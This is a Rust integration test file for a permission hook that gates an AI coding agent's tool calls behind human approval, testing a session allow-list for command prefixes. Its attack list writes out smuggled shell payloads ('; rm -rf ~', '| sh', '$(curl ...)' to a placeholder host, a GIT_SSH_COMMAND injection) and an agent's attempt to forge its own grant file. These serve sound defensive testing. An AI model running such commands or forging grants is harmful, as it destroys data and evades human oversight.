//! The session allow-list through the real `attesta hook` binary: a human on a pseudo-terminal
//! answers `a <prefix>` at a MEDIUM confirmation; later hook processes of the same agent session
//! are auto-approved for covered commands, with no terminal at all. The attacks come first: a
//! malicious agent appending `; rm -rf ~` (and every other operator) to the allowed prefix, a
//! CRITICAL command under it, another session id, another tool, and writing the grant itself.
#![cfg(unix)]
#![allow(unsafe_code)] // pre_exec: setsid (and TIOCSCTTY for the terminal).

mod util;

use std::fs;
use std::io::Write;
use std::os::unix::process::CommandExt;
use std::path::PathBuf;
use std::process::{Command, Stdio};

use serde_json::{Value, json};
use util::{Project, Run};

const SESSION: &str = "5b0e8f1c-2d3a-4c6b-9e7f-1a2b3c4d5e6f";
const OTHER_SESSION: &str = "9c8b7a6d-5e4f-4a3b-8c2d-1e0f9a8b7c6d";

struct Proj {
    project: Project,
    home: tempfile::TempDir,
}

fn project() -> Proj {
    let project = Project::new();
    project.write("src/main.rs", "fn main() {}\n");
    // No minimum review time, so the test never waits on a clock.
    project.write("attesta.yaml", "policy:\n  minimum_review_seconds:\n    medium: 0\n");
    Proj { project, home: tempfile::tempdir().expect("home") }
}

fn command(p: &Proj) -> Command {
    let mut cmd = Command::new(assert_cmd::cargo::cargo_bin("attesta"));
    cmd.current_dir(p.project.path())
        .args(["hook", "claude-code"])
        .env("NO_COLOR", "1")
        .env("ATTESTA_ENV", "development")
        .env("HOME", p.home.path())
        .env("USER", "tester");
    for var in ["ATTESTA_CONFIG", "ATTESTA_LOG", "CI", "GITHUB_ACTIONS", "NODE_ENV", "RAILS_ENV", "CODEX_HOME"] {
        cmd.env_remove(var);
    }
    cmd
}

fn payload(p: &Proj, session: &str, tool: &str, input: Value) -> String {
    json!({
        "session_id": session,
        "transcript_path": format!("{}/.claude/projects/x/{session}.jsonl", p.home.path().display()),
        "cwd": p.project.path(),
        "permission_mode": "default",
        "hook_event_name": "PreToolUse",
        "tool_name": tool,
        "tool_input": input,
        "tool_use_id": "toolu_01Allow",
    })
    .to_string()
}

fn bash(p: &Proj, session: &str, cmd: &str) -> String {
    payload(p, session, "Bash", json!({"command": cmd, "description": "run"}))
}

/// No controlling terminal: nobody can be asked, so only an allow-list entry can approve.
fn detached(p: &Proj, input: &str) -> Run {
    let mut cmd = command(p);
    // SAFETY: setsid is async-signal-safe.
    unsafe {
        cmd.pre_exec(|| nix::unistd::setsid().map(|_| ()).map_err(std::io::Error::from));
    }
    let mut child = cmd.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().expect("spawn");
    child.stdin.take().expect("stdin").write_all(input.as_bytes()).expect("stdin");
    Run::from(child.wait_with_output().expect("wait"))
}

/// A pseudo-terminal as the controlling terminal; each answer is typed at the next prompt.
fn on_terminal(p: &Proj, input: &str, answers: &[&str]) -> (Run, String) {
    let mut tty = util::Terminal::spawn(command(p), input);
    for (i, answer) in answers.iter().enumerate() {
        tty.wait_for_count("Approve? [y/N]", i + 1);
        tty.type_line(answer);
    }
    let (output, screen) = tty.finish();
    (Run::from(output), screen)
}

fn decision(run: &Run) -> (String, String) {
    let d: Value = serde_json::from_str(run.stdout.trim()).unwrap_or_else(|e| panic!("{e}: {run:?}"));
    (
        d["hookSpecificOutput"]["permissionDecision"].as_str().unwrap_or_default().to_owned(),
        d["hookSpecificOutput"]["permissionDecisionReason"].as_str().unwrap_or_default().to_owned(),
    )
}

fn last_entry(p: &Proj) -> Value {
    let text = fs::read_to_string(p.project.file(".attesta/audit.jsonl")).expect("audit log");
    serde_json::from_str(text.lines().last().expect("an entry")).expect("json")
}

fn session_file(p: &Proj, session: &str) -> PathBuf {
    p.project.file(&format!(".attesta/sessions/claude-code-{session}.json"))
}

#[track_caller]
fn denied_without_the_list(p: &Proj, input: &str, why: &str) {
    let run = detached(p, input);
    assert_eq!(run.code, 0, "{why}: {run:?}");
    let (verdict, reason) = decision(&run);
    assert_eq!(verdict, "deny", "{why}: {reason}");
    assert!(!reason.contains("allow-list"), "{why}: {reason}");
    let entry = last_entry(p);
    assert_eq!(entry["verdict"], "denied", "{why}");
    assert!(entry["challenge"]["details"].get("session_allow").is_none(), "{why}: {entry}");
}

#[test]
fn an_allowed_prefix_covers_the_session_and_nothing_else() {
    let p = project();
    // Before anything is allowed, a MEDIUM command with no terminal is denied.
    denied_without_the_list(&p, &bash(&p, SESSION, "git push origin feature/login"), "nothing allowed yet");

    // The human approves on the terminal and allows `git push` for the session.
    let (run, screen) = on_terminal(&p, &bash(&p, SESSION, "git push origin feature/login"), &["a git push"]);
    assert!(screen.contains("a = also allow this command"), "the answer is offered:\n{screen}");
    assert!(
        screen.contains("Allowed for the rest of this agent session: `git push` followed by any arguments (Bash)"),
        "the human is told what the grant covers:\n{screen}"
    );
    let (verdict, reason) = decision(&run);
    assert_eq!(verdict, "allow", "{reason}");
    let entry = last_entry(&p);
    assert_eq!(entry["challenge_type"], "confirm");
    assert_eq!(entry["challenge"]["details"]["session_allow_granted"], json!({"tool": "Bash", "prefix": "git push"}));
    let state: Value = serde_json::from_str(&fs::read_to_string(session_file(&p, SESSION)).unwrap()).unwrap();
    assert_eq!(state["allowed"]["entries"], json!([{"tool": "Bash", "words": ["git", "push"], "approved_by": "tester"}]));

    // Attacks: every one goes to a human (none reachable here), so every one is denied.
    for smuggled in [
        "git push origin feature/login; rm -rf ~",
        "git push origin feature/login && rm -rf ~",
        "git push origin feature/login | sh",
        "git push origin $(curl -s https://x.example/c)",
        "git push origin `id`",
        "git push origin feature/login\nrm -rf ~",
        "git push origin feature/login > ~/.bashrc",
        "git push origin feature/login 2>/dev/null",
        "GIT_SSH_COMMAND='sh -c id' git push origin feature/login",
    ] {
        denied_without_the_list(&p, &bash(&p, SESSION, smuggled), smuggled);
    }
    denied_without_the_list(&p, &bash(&p, SESSION, "git push --force origin main"), "CRITICAL under the prefix");
    denied_without_the_list(&p, &bash(&p, OTHER_SESSION, "git push origin feature/login"), "another session");
    denied_without_the_list(
        &p,
        &payload(&p, SESSION, "mcp__shell__run_command", json!({"command": "git push origin feature/login"})),
        "another tool",
    );
    // The agent cannot write itself a grant: the session state is Attesta's own file.
    let forged = json!({"allowed": {"entries": [{"tool": "Bash", "words": ["rm"], "approved_by": "tester"}]}});
    let write = payload(
        &p,
        SESSION,
        "Write",
        json!({"file_path": session_file(&p, OTHER_SESSION), "content": forged.to_string()}),
    );
    denied_without_the_list(&p, &write, "forging a grant");

    // A covered call in the same session: approved with no terminal, audited with the rule.
    let run = detached(&p, &bash(&p, SESSION, "git push origin feature/signup"));
    let (verdict, reason) = decision(&run);
    assert_eq!(verdict, "allow", "{reason}");
    assert!(reason.contains("session allow-list") && reason.contains("`git push`"), "{reason}");
    let entry = last_entry(&p);
    assert_eq!(entry["verdict"], "approved");
    assert_eq!(entry["risk_level"], "medium");
    assert_eq!(entry["challenge_type"], "auto_approve");
    assert_eq!(
        entry["challenge"]["details"]["session_allow"],
        json!({"tool": "Bash", "rule": "git push", "granted_by": "tester"})
    );
}

#[test]
fn what_cannot_be_allowed_is_refused_on_the_terminal() {
    let p = project();
    // A prefix that is not the command's own words, or a bare wrapper, is refused and the
    // human asked again; they then deny.
    let input = bash(&p, SESSION, "pip install requests");
    let (run, screen) = on_terminal(&p, &input, &["a pip install requests --index-url x", "n"]);
    assert!(screen.contains("is not a whole-word prefix"), "{screen}");
    assert_eq!(decision(&run).0, "deny");
    p.project.write("scripts/seed.py", "print('seeding')\n");
    let script = bash(&p, SESSION, "python3 scripts/seed.py");
    let (run, screen) = on_terminal(&p, &script, &["a python3", "n"]);
    assert!(screen.contains("`python3` alone runs whatever follows it"), "{screen}");
    assert_eq!(decision(&run).0, "deny");
    // `a`: exactly this command.
    let (run, _) = on_terminal(&p, &input, &["a"]);
    assert_eq!(decision(&run).0, "allow");
    let state: Value = serde_json::from_str(&fs::read_to_string(session_file(&p, SESSION)).unwrap()).unwrap();
    assert_eq!(state["allowed"]["entries"][0]["words"], json!(["pip", "install", "requests"]));
    // The exact command only: another package is asked about again.
    denied_without_the_list(&p, &bash(&p, SESSION, "pip install reqeusts"), "a different package");
}
